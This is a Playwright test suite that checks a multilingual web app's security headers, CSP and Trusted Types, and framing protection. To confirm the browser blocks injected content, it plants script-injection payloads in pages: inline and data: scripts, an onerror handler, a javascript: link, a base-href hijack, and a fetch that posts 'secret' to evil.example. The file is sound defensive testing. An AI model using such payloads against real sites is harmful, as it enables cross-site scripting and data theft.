import { once } from "node:events";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { type APIRequestContext, expect, type Page, type Response, test } from "@playwright/test";
import { signInAsOperator } from "../support/operator.ts";
import { open, PHONE } from "../support/visitor.ts";

/** Effect of our headers on every kind of page: own scripts run, injected ones do not, and no other site frames it. */
type Kind = {
  name: string;
  path: string | ((request: APIRequestContext) => Promise<string>);
  arrive?: (page: Page, path: string) => Promise<Response | null>;
  status?: number;
};
const goto: Kind["arrive"] = (page, path) => page.goto(path);
const token = "of-nobody.0123456789";

const KINDS: readonly Kind[] = [
  { name: "the home page", path: "/de", arrive: open },
  { name: "the posts", path: "/de/blog", arrive: open },
  { name: "a tool", path: "/en/tools/hundejahre-rechner", arrive: open },
  { name: "a legal page", path: "/pl/privacy", arrive: open },
  { name: "wizard, photo", path: "/de/upload", arrive: open },
  { name: "wizard, questions", path: "/en/details", arrive: open },
  { name: "wizard, waiting", path: "/pl/analyzing", arrive: open },
  { name: "a report", path: "/de/report/example", arrive: open },
  { name: "a path nobody knows", path: "/nowhere", arrive: open },
  { name: "a file nobody knows", path: "/nowhere.html", status: 404 },
  { name: "newsletter, confirming", path: `/api/newsletter/confirm?token=${token}` },
  { name: "newsletter, leaving", path: `/api/newsletter/unsubscribe?token=${token}` },
  { name: "newsletter, a broken link", path: "/api/newsletter/confirm?token=x", status: 400 },
  {
    name: "the demo shop",
    path: async (request) =>
      /\/demo-shop\/[^"]+/.exec(await (await request.get("/api/report/example?lang=de")).text())?.[0] ?? "no product",
  },
  {
    name: "the admin area, signed in",
    path: "/admin/analytics",
    async arrive(page, path) {
      await signInAsOperator(page);
      const answer = await page.goto(path);
      await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
      return answer;
    },
  },
];
const pathOf = async ({ path }: Kind, request: APIRequestContext): Promise<string> =>
  typeof path === "string" ? path : path(request);

declare global {
  // marks of injected scripts, and violations reported by the browser
  var strangers: string[] | undefined;
  var stopped: string[] | undefined;
}

test.use(PHONE);

for (const kind of KINDS) {
  test(`${kind.name}: has its headers, runs own scripts, blocks injected ones`, async ({ page, request, baseURL }) => {
    await page.addInitScript(() => {
      globalThis.stopped = [];
      document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) =>
        globalThis.stopped?.push(`${effectiveDirective} ${blockedURI}`),
      );
    });
    const answer = await (kind.arrive ?? goto)(page, await pathOf(kind, request));
    expect(answer?.status()).toBe(kind.status ?? 200);
    expect(answer?.headers()).toMatchObject({
      "x-content-type-options": "nosniff",
      "x-frame-options": "DENY",
      "cross-origin-opener-policy": "same-origin",
      "referrer-policy": expect.stringMatching(/^(strict-origin-when-cross-origin|no-referrer)$/),
      "strict-transport-security": expect.stringMatching(/max-age=\d{8}/),
      "permissions-policy": expect.stringContaining("geolocation=()"),
      "content-security-policy": expect.stringMatching(
        /^default-src '(?:self'.*object-src 'none|none)'.*base-uri 'none'.*frame-ancestors 'none'/,
      ),
    });
    expect(answer?.headers()["content-security-policy"]).not.toMatch(/script-src[^;]*(unsafe|\*|https?:)/);
    // pages without scripts need no Trusted Types
    const isTyped =
      answer?.headers()["content-security-policy"]?.includes("require-trusted-types-for 'script'") ?? false;
    expect(isTyped).toBe(!answer?.headers()["content-security-policy"]?.startsWith("default-src 'none'"));
    expect(await page.evaluate(() => globalThis.stopped), "nothing of our own is stopped").toEqual([]);

    await page.evaluate((origin) => {
      globalThis.strangers = [];
      const add = (tag: string, attributes: Record<string, string>, text = ""): void => {
        const element = document.createElement(tag);
        try {
          for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
          element.textContent = text;
          document.body.append(element);
        } catch (error) {
          // Trusted Types block its creation
          if (!(error instanceof TypeError)) throw error;
        }
      };
      add("script", {}, "globalThis.strangers.push('inline')");
      add("script", { src: "https://evil.example/x.js" });
      add("script", { src: "data:text/javascript,globalThis.strangers.push('data')" });
      add("img", { src: `${origin}/no-such-picture.png`, onerror: "globalThis.strangers.push('attribute')" });
      add("iframe", { src: "https://evil.example/" });
      add("object", { data: "https://evil.example/" });
      add("base", { href: "https://evil.example/" });
      add("a", { href: "javascript:globalThis.strangers.push('address')", id: "strange" }, "x");
      document.getElementById("strange")?.click();
      void fetch("https://evil.example/", { method: "POST", body: "secret" }).catch(() => undefined);
    }, baseURL ?? "");
    await expect
      .poll(() => page.evaluate(() => [...new Set(globalThis.stopped?.map((one) => one.split(" ")[0]))]))
      .toEqual(
        expect.arrayContaining(
          isTyped
            ? ["base-uri", "connect-src", "require-trusted-types-for"]
            : ["base-uri", "connect-src", "object-src", "script-src-attr", "script-src-elem"],
        ),
      );
    expect(await page.evaluate(() => globalThis.strangers)).toEqual([]);
    expect(await page.evaluate(() => document.baseURI)).toContain(baseURL ?? "nowhere");
  });
}

for (const path of ["/de", "/admin"])
  test(`${path}: injected markup runs no script`, async ({ page }) => {
    await page.addInitScript(() => {
      globalThis.stopped = [];
      document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) =>
        globalThis.stopped?.push(effectiveDirective),
      );
    });
    await page.route(path, async (route) => {
      const response = await route.fetch();
      const strange = `<script>globalThis.strangers = ["inline"]</script><img src="x" onerror="globalThis.strangers = ['attribute']"><object data="https://evil.example/"></object>`;
      await route.fulfill({ response, body: (await response.text()).replace("</body>", `${strange}</body>`) });
    });
    await page.goto(path);
    await expect
      .poll(() => page.evaluate(() => [...new Set(globalThis.stopped)]))
      .toEqual(expect.arrayContaining(["object-src", "script-src-attr", "script-src-elem"]));
    expect(await page.evaluate(() => globalThis.strangers)).toBeUndefined();
  });

test("none can be framed by another site", async ({ page, request, baseURL }) => {
  await signInAsOperator(page);
  const ours = await Promise.all(KINDS.map(async (kind) => `${baseURL}${await pathOf(kind, request)}`));
  const foreign = createServer(({ url }, response) =>
    response
      .writeHead(200, { "content-type": "text/html" })
      .end(
        url === "/"
          ? [...ours, "/its-own"].map((src) => `<iframe src="${src.replaceAll("&", "&amp;")}"></iframe>`).join("")
          : "<p>shown</p>",
      ),
  );
  await once(foreign.listen(0, "localhost"), "listening");
  // another host name makes it another site
  const home = `http://localhost:${(foreign.address() as AddressInfo).port}`;
  try {
    await page.goto(home);
    // the error page of a blocked frame is committed a moment after the page has loaded
    await expect
      .poll(() =>
        page
          .frames()
          .slice(1)
          .map((frame) => frame.url()),
      )
      .toEqual([...ours.map(() => "chrome-error://chromewebdata/"), `${home}/its-own`]);
  } finally {
    foreign.close();
  }
});
